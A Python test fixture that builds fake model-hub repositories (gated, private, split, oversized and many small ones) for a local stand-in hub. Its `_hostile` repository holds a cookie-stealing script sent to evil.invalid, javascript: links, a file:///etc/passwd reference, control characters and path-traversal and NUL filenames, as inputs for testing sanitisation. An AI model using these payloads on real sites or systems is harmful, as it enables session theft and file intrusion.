"""The repositories that `make hub` serves: the guide, and made-up ones of every kind that a person meets on the Hub.

One rule: those of the guide are real and answer; of all others only the headers are, and their weights are zeros.
"""

from __future__ import annotations

import random
import struct
from collections.abc import Iterator
from pathlib import Path

from standin.gguf_files import Gguf, quantised, read, split, text
from standin.repositories import Content, Repository, Sparse

TOKEN = "hf_StandInTokenThatOpensTheGatedModels"
USER = "stand-in-person"
GUIDE = Path(__file__).resolve().parents[2] / "resources/guide/guide.gguf"
MOST_SMALL = 120
USUAL_MEMORY = 16 * 2**30
SNUG = 0.785
"""Share of the computer's memory that the middle one of `snug` takes: more than fits with ease, and less than all."""
BYTES = {12: 144, 13: 176, 14: 210, 8: 272}
"""ggml_type → bytes of 256 weights: Q4_K, Q5_K, Q6_K, Q8_0."""
MOST_LAYERS = 200
_MIB = 2**20
_ARCHITECTURE = {"architecture": "llama", "context_length": 2048}


def made_up(memory: int = USUAL_MEMORY) -> tuple[Repository, ...]:
    """All of them.

    Args:
        memory: bytes of the computer that they are tried on; of one repository some files fit it, and some do not.
    """
    guide = read(GUIDE.read_bytes())
    return (
        _guide(guide),
        _in_parts(guide),
        _gated(guide),
        _hostile(guide),
        _base(),
        _versions_of_base(guide),
        _seeing(guide),
        _giant(),
        snug(memory),
        _private(guide),
        *_small(guide),
    )


def card(licence: str, title: str, words: str) -> bytes:
    """A README.md."""
    return f"---\nlicense: {licence}\n---\n# {title}\n\n{words}\n".encode()


def header(*, layers: int, width: int, vocabulary: int = 128_256, name: str = "Made up", kind: int = 12) -> bytes:
    """The header of a Llama of that shape, whose matrices are of that ggml_type (12 is Q4_K), without the weights."""
    values = {
        "general.architecture": text("llama"),
        "general.name": text(name),
        "general.file_type": (4, struct.pack("<I", 15)),
        "llama.context_length": (4, struct.pack("<I", 131_072)),
        "llama.embedding_length": (4, struct.pack("<I", width)),
        "llama.feed_forward_length": (4, struct.pack("<I", width * 7 // 2)),
        "llama.block_count": (4, struct.pack("<I", layers)),
        "llama.attention.head_count": (4, struct.pack("<I", width // 128)),
        "llama.attention.head_count_kv": (4, struct.pack("<I", 8)),
        "llama.vocab_size": (4, struct.pack("<I", vocabulary)),
        "tokenizer.ggml.model": text("gpt2"),
        "tokenizer.chat_template": text("{{ messages }}"),
    }
    shapes = {"token_embd.weight": (width, vocabulary), "output.weight": (width, vocabulary)}
    for layer in range(layers):
        shapes |= {f"blk.{layer}.{part}.weight": shape for part, shape in _layer(width).items()}
    head = [b"GGUF", struct.pack("<IQQ", 3, len(shapes), len(values))]
    head += [_string(key) + struct.pack("<I", which) + value for key, (which, value) in values.items()]
    offset = 0
    for key, shape in shapes.items():
        head.append(_string(key) + struct.pack("<I2QIQ", 2, *shape, kind, offset))
        offset += shape[0] * shape[1] // 256 * BYTES[kind]
    data = b"".join(head)
    return data + bytes(-len(data) % 32)


def weights(*, layers: int, width: int, vocabulary: int = 128_256, kind: int = 12) -> int:
    """Bytes of the weights behind `header`."""
    matrices = [(width, vocabulary)] * 2 + list(_layer(width).values()) * layers
    return sum(shape[0] * shape[1] // 256 * BYTES[kind] for shape in matrices)


def _layer(width: int) -> dict[str, tuple[int, int]]:
    narrow, wide = 1024, width * 7 // 2
    return {
        "attn_q": (width, width), "attn_k": (width, narrow), "attn_v": (width, narrow), "attn_output": (width, width),
        "ffn_gate": (width, wide), "ffn_up": (width, wide), "ffn_down": (wide, width),
    }  # fmt: skip


def _string(value: str) -> bytes:
    data = value.encode()
    return struct.pack("<Q", len(data)) + data


def _guide(guide: Gguf) -> Repository:
    files = {
        "README.md": card("apache-2.0", "Paddock's guide", "A tiny model that answers questions about Paddock."),
        "guide-F16.gguf": GUIDE,
        **{f"guide-{name}.gguf": quantised(guide, name).to_bytes() for name in ("Q8_0", "Q5_0", "Q4_0")},
        "imatrix.dat": bytes(100),
    }
    data = {"license": "apache-2.0", "language": ["en"], "base_model": "paddock/guide"}
    facts = {"total": 1_040_000, **_ARCHITECTURE}
    return Repository("paddock/guide-GGUF", files, data, likes=420, downloads=90_000, trending=99, gguf=facts)


def _in_parts(guide: Gguf) -> Repository:
    parts = split(guide, 3)
    files = {f"F16/guide-F16-{number:05d}-of-00003.gguf": part for number, part in enumerate(parts, 1)}
    files |= {"Q8_0/guide-Q8_0-00001-of-00002.gguf": split(quantised(guide, "Q8_0"), 2)[0]}  # and the second is missing
    files["README.md"] = card("apache-2.0", "The guide in three files", "Large models come like this.")
    return Repository("paddock/guide-split-GGUF", files, {"license": "apache-2.0"}, likes=11, downloads=800)


def _gated(guide: Gguf) -> Repository:
    data = {
        "license": "llama3.2",
        "language": ["en", "de", "fr"],
        "base_model": "meta/gated-1B",
        "extra_gated_prompt": "### LLAMA 3.2 COMMUNITY LICENSE AGREEMENT\n\nAcceptable use: "
        "https://www.llama.com/llama3_2/use-policy",
        "extra_gated_fields": {"Country": "country"},
    }
    files = {
        "README.md": card("llama3.2", "A gated model", "Whoever wants it accepts the licence first."),
        "gated-1B-Q4_K_M.gguf": guide.with_values({"general.name": text("Gated 1B")}).to_bytes(),
        "LICENSE.txt": b"LLAMA 3.2 COMMUNITY LICENSE AGREEMENT\n",
        "USE_POLICY.md": b"# Llama 3.2 Acceptable Use Policy\n",
    }
    let_in = frozenset({USER})
    return Repository(
        "meta/gated-1B-GGUF", files, data, likes=2_000, downloads=500_000, trending=80, gated="manual", let_in=let_in
    )


def _private(guide: Gguf) -> Repository:
    files = {"secret-Q8_0.gguf": quantised(guide, "Q8_0").to_bytes()}
    return Repository(f"{USER}/private-GGUF", files, private=True, let_in=frozenset({USER}))


def _hostile(guide: Gguf) -> Repository:
    words = (
        '<script>fetch("http://evil.invalid/" + document.cookie)</script>\n'
        '<img src="http://evil.invalid/pixel.png" onerror="alert(1)">\n'
        "![pixel](http://evil.invalid/track.png) ![local](file:///etc/passwd) ![share](//host/share/x.png)\n"
        "[click me](javascript:alert(1)) [or me](http://evil.invalid/)\n\n"
        '<iframe src="http://evil.invalid/"></iframe><style>* { display: none }</style>\n\n'
        f"{'> ' * 500}deep\n\n| {'a | ' * 200}\n\n{'word ' * 200_000}\n"
    )
    files = {
        "README.md": card("other", "‮A hostile card‬ \x1b[31mred\x07", words),
        "hostile-F16.gguf": guide.to_bytes(),
        "../../outside-Q8_0.gguf": b"GGUF",
        "/absolute-Q8_0.gguf": b"GGUF",
        "line\nbreak-Q8_0.gguf": b"GGUF",
        "nul\x00-Q8_0.gguf": b"GGUF",
    }
    data = {"license": "other", "license_link": "javascript:alert(1)", "license_name": "‮free‬"}
    return Repository("evil/hostile-card-GGUF", files, data, trending=1)


def _base() -> Repository:
    files = {
        "README.md": card("llama3.2", "A model as it was published", "Not for llama.cpp."),
        "config.json": b'{"model_type": "llama", "architectures": ["LlamaForCausalLM"]}',
        "model-00001-of-00002.safetensors": bytes(2_000),
        "model-00002-of-00002.safetensors": bytes(1_000),
    }
    data = {"license": "llama3.2", "language": "en"}
    return Repository(
        "meta/plain-1B",
        files,
        data,
        likes=900,
        downloads=40_000,
        safetensors={"parameters": {"BF16": 10**9}, "total": 10**9},
    )


def _versions_of_base(guide: Gguf) -> Repository:
    files = {
        "README.md": card("llama3.2", "plain-1B as GGUF", "Made of meta/plain-1B."),
        "plain-1B.Q8_0.gguf": quantised(guide, "Q8_0").to_bytes(),
    }
    data = {"license": "llama3.2", "base_model": ["meta/plain-1B"]}
    tags = ("base_model:quantized:meta/plain-1B",)
    return Repository("somebody/plain-1B-GGUF", files, data, tags, likes=30, downloads=3_000)


def _seeing(guide: Gguf) -> Repository:
    files = {
        "README.md": card("apache-2.0", "A model that sees", "With its mmproj, a draft model and an adapter."),
        "seeing-F16.gguf": guide.to_bytes(),
        "seeing-Q8_0.gguf": quantised(guide, "Q8_0").to_bytes(),
        "mmproj-seeing-F16.gguf": guide.with_values({"general.architecture": text("clip")}).to_bytes(),
        "seeing-draft-Q4_0.gguf": quantised(guide, "Q4_0").to_bytes(),
        "seeing-lora-adapter-F16.gguf": guide.with_values({"general.type": text("adapter")}).to_bytes(),
    }
    return Repository(
        "paddock/seeing-GGUF",
        files,
        {"license": "apache-2.0"},
        pipeline_tag="image-text-to-text",
        likes=77,
        trending=50,
    )


def _giant() -> Repository:
    giant, large = {"layers": 126, "width": 16_384}, {"layers": 80, "width": 8_192}
    files = {
        "README.md": card("llama3.1", "Too large", "Nobody has the memory for it."),
        "giant-405B-Q4_K_M.gguf": _sparse(name="Giant 405B", **giant),
        "giant-70B-Q4_K_M.gguf": _sparse(name="Giant 70B", **large),
    }
    facts = {"total": 405_000_000_000, "architecture": "llama", "context_length": 131_072}
    return Repository("paddock/giant-405B-GGUF", files, {"license": "llama3.1"}, likes=5_000, gguf=facts, trending=70)


def snug(memory: int) -> Repository:
    """With the usual context its Q4_K_M fits, its Q6_K is tight, and its Q8_0 does not fit."""
    middle, spare = 14, 700 * _MIB  # what is computed with, and the program itself
    for width in (4096, 8192, 16_384):
        layer = weights(layers=1, width=width, vocabulary=0, kind=middle) + 8192 * 4096  # and 8K tokens of KV cache
        room = SNUG * memory - weights(layers=0, width=width, kind=middle) - spare
        shape = {"layers": max(2, round(room / layer)), "width": width}
        if shape["layers"] < MOST_LAYERS:
            break
    files: dict[str, bytes | Path | Content] = {
        f"snug-{name}.gguf": _sparse(name="Snug", kind=kind, **shape)
        for name, kind in (("Q4_K_M", 12), ("Q5_K_M", 13), ("Q6_K", 14), ("Q8_0", 8))
    }
    files["README.md"] = card("llama3.1", "As large as this computer", "Some of it fits, and some of it does not.")
    total = weights(**shape) // BYTES[12] * 256
    facts = {"total": total, "architecture": "llama", "context_length": 131_072}
    data = {"license": "llama3.1", "language": ["en", "de"]}
    return Repository("paddock/snug-GGUF", files, data, likes=400, downloads=60_000, trending=75, gguf=facts)


def _sparse(*, name: str, layers: int, width: int, kind: int = 12) -> Sparse:
    head = header(layers=layers, width=width, name=name, kind=kind)
    return Sparse(head, len(head) + weights(layers=layers, width=width, kind=kind))


def _small(guide: Gguf) -> Iterator[Repository]:
    rng = random.Random(5)
    data = quantised(guide, "Q8_0").to_bytes()
    for number in range(MOST_SMALL):
        author = rng.choice(("anna", "bertil", "chika", "dara"))
        name = f"small-{number:03d}-GGUF"
        licence = rng.choice(("apache-2.0", "mit", "llama3.2"))
        facts = {"total": rng.choice((1, 3, 8, 70)) * 10**9, **_ARCHITECTURE}
        day = f"2026-{1 + number // 28:02d}-{1 + number % 28:02d}T12:00:00.000Z"
        files = {"README.md": card(licence, name, "One of many."), f"small-{number:03d}-Q8_0.gguf": data}
        task = rng.choice(("text-generation", "text-generation", "feature-extraction"))
        yield Repository(
            f"{author}/{name}", files, {"license": licence}, pipeline_tag=task, gguf=facts, likes=rng.randrange(300),
            downloads=rng.randrange(9_000), trending=rng.randrange(40), created=day, modified=day,
        )  # fmt: skip
